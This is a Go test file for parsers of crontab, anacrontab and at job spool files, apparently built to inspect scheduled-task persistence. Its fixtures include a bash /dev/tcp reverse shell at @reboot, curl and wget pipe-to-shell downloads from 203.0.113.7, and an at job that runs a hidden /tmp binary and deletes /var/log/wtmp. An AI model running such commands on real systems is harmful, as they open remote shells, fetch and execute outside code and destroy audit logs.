package schedule

import (
	"errors"
	"reflect"
	"strings"
	"testing"
	"time"
	"unicode/utf8"
)

func TestParseCrontab(t *testing.T) {
	tests := []struct {
		name   string
		text   string
		system bool
		want   []CronEntry
		bad    []int
	}{
		{
			name:   "debian /etc/crontab",
			text:   "SHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/bin\n# m h dom mon dow user\tcommand\n17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly\n",
			system: true,
			want:   []CronEntry{{Line: 4, Schedule: "17 * * * *", User: "root", Command: "cd / && run-parts --report /etc/cron.hourly"}},
		},
		{
			name:   "@reboot reverse shell",
			text:   "@reboot root /bin/bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'\n",
			system: true,
			want:   []CronEntry{{Line: 1, Schedule: "@reboot", User: "root", Command: "/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'"}},
		},
		{
			name: "user crontab with env, names, steps and no-log prefix",
			text: "MAILTO=\"\"\n  \"MY VAR\" = x\n*/5 * * * * curl -s http://203.0.113.7/a.sh | sh\n0 4 1 jan,jul mon-fri /usr/bin/backup  --all\n-@hourly /bin/true\n",
			want: []CronEntry{
				{Line: 3, Schedule: "*/5 * * * *", Command: "curl -s http://203.0.113.7/a.sh | sh"},
				{Line: 4, Schedule: "0 4 1 jan,jul mon-fri", Command: "/usr/bin/backup  --all"},
				{Line: 5, Schedule: "@hourly", Command: "/bin/true"},
			},
		},
		{
			name:   "malformed lines are skipped and reported",
			text:   "* * * *\n@sometimes root x\n* * * * * root\n1 2 3 4 5 root ok\n* * [ * * root nope\n",
			system: true,
			want:   []CronEntry{{Line: 4, Schedule: "1 2 3 4 5", User: "root", Command: "ok"}},
			bad:    []int{1, 2, 3, 5},
		},
		{
			name: "CRLF line ends",
			text: "0 0 * * * /bin/a\r\n",
			want: []CronEntry{{Line: 1, Schedule: "0 0 * * *", Command: "/bin/a"}},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := ParseCrontab([]byte(tt.text), tt.system)
			if !reflect.DeepEqual(got, tt.want) {
				t.Errorf("got  %+v\nwant %+v", got, tt.want)
			}
			checkBad(t, err, tt.bad)
		})
	}
}

func checkBad(t *testing.T, err error, bad []int) {
	t.Helper()
	if bad == nil {
		if err != nil {
			t.Errorf("unexpected error %v", err)
		}
		return
	}
	var le *LineError
	if !errors.As(err, &le) {
		t.Fatalf("error %v, want *LineError", err)
	}
	if !reflect.DeepEqual(le.Lines, bad) {
		t.Errorf("bad lines %v, want %v", le.Lines, bad)
	}
}

func TestParseAnacrontab(t *testing.T) {
	text := "SHELL=/bin/sh\nSTART_HOURS_RANGE=3-22\n# period delay id command\n1\t5\tcron.daily\trun-parts --report /etc/cron.daily\n@monthly 15 cron.monthly run-parts /etc/cron.monthly\n7 x bad cmd\n1 1 a/b cmd\n"
	got, err := ParseAnacrontab([]byte(text))
	want := []AnacronEntry{
		{Line: 4, Period: "1", Delay: "5", ID: "cron.daily", Command: "run-parts --report /etc/cron.daily"},
		{Line: 5, Period: "@monthly", Delay: "15", ID: "cron.monthly", Command: "run-parts /etc/cron.monthly"},
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("got  %+v\nwant %+v", got, want)
	}
	if got[0].Schedule() != "1 5 cron.daily" {
		t.Errorf("Schedule() = %q", got[0].Schedule())
	}
	checkBad(t, err, []int{6, 7})
}

const atPreamble = "#!/bin/sh\n# atrun uid=33 gid=33\n# mail www-data 0\numask 22\nLANG=C.UTF-8; export LANG\nPATH=/usr/bin:/bin; export PATH\ncd /var/www || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n"

func TestParseAtJob(t *testing.T) {
	tests := []struct {
		name, text, want string
	}{
		{"here document", atPreamble + "${SHELL:-/bin/sh} << 'marcinDELIMITER2f1a7c3e'\nnohup /tmp/.x &\n\nrm -f /var/log/wtmp\nmarcinDELIMITER2f1a7c3e\n", "nohup /tmp/.x &\nrm -f /var/log/wtmp"},
		{"old at without here document", atPreamble + "wget -qO- http://203.0.113.7/s | sh\n", "wget -qO- http://203.0.113.7/s | sh"},
		{"no preamble block", "#!/bin/sh\numask 22\nHOME=/root; export HOME\n/usr/local/bin/job\n", "/usr/local/bin/job"},
		{"empty", "", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := ParseAtJob([]byte(tt.text)); got != tt.want {
				t.Errorf("got %q, want %q", got, tt.want)
			}
		})
	}
	long := ParseAtJob([]byte(atPreamble + strings.Repeat("echo ü\n", 2000)))
	if len(long) > MaxCommand || !utf8.ValidString(long) {
		t.Errorf("not cut cleanly: %d bytes", len(long))
	}
}

func TestAtTime(t *testing.T) {
	want := time.Date(2026, 11, 20, 3, 0, 0, 0, time.UTC)
	name := "a00002" + hex8(want.Unix()/60)
	got, q, ok := AtTime(name)
	if !ok || q != 'a' || !got.Equal(want) {
		t.Errorf("AtTime(%q) = %v %c %v", name, got, q, ok)
	}
	for _, bad := range []string{".SEQ", "spool", "a00002zzzzzzzz", "1000020123abcd", "a0000201234567890"} {
		if _, _, ok := AtTime(bad); ok {
			t.Errorf("AtTime(%q) ok", bad)
		}
	}
}

func hex8(n int64) string {
	const digits = "0123456789abcdef"
	b := make([]byte, 8)
	for i := 7; i >= 0; i-- {
		b[i] = digits[n&15]
		n >>= 4
	}
	return string(b)
}

func FuzzParseCrontab(f *testing.F) {
	f.Add([]byte("SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n"), true)
	f.Add([]byte("@reboot /home/u/.x\n*/5 1-3,7 * jan mon-fri curl x|sh\n"), false)
	f.Add([]byte("-* * * * * root x\n\"A\"=b\n@weekly\n* * *\n"), true)
	f.Add([]byte("\x00\xff* * * * * \xfe"), false)
	f.Fuzz(func(t *testing.T, data []byte, system bool) {
		entries, err := ParseCrontab(data, system)
		var le *LineError
		if err != nil && !errors.As(err, &le) {
			t.Fatalf("error type %T", err)
		}
		lines := strings.Count(string(data), "\n") + 1
		for _, e := range entries {
			if e.Command == "" || e.Schedule == "" || len(e.Command) > MaxCommand {
				t.Fatalf("bad entry %+v", e)
			}
			if system != (e.User != "") {
				t.Fatalf("user field %q in system=%v", e.User, system)
			}
			if e.Line < 1 || e.Line > lines {
				t.Fatalf("line %d of %d", e.Line, lines)
			}
			if n := len(strings.Fields(e.Schedule)); n != 1 && n != 5 {
				t.Fatalf("schedule %q", e.Schedule)
			}
		}
	})
}

func FuzzParseAnacrontab(f *testing.F) {
	f.Add([]byte("SHELL=/bin/sh\n1\t5\tcron.daily\trun-parts --report /etc/cron.daily\n@monthly 15 cron.monthly x\n"))
	f.Add([]byte("7 x\n\x00 1 1 1\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		entries, _ := ParseAnacrontab(data)
		for _, e := range entries {
			if e.Command == "" || e.ID == "" || !isDigits(e.Delay) || strings.Contains(e.ID, "/") {
				t.Fatalf("bad entry %+v", e)
			}
		}
	})
}

func FuzzParseAtJob(f *testing.F) {
	f.Add([]byte(atPreamble + "${SHELL:-/bin/sh} << 'marcinDELIMITER2f1a7c3e'\nid\nmarcinDELIMITER2f1a7c3e\n"))
	f.Add([]byte("cd / || {\n"))
	f.Add([]byte("${SHELL:-/bin/sh} << ''\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		if got := ParseAtJob(data); len(got) > MaxCommand {
			t.Fatalf("command of %d bytes", len(got))
		}
		AtTime(string(data))
	})
}
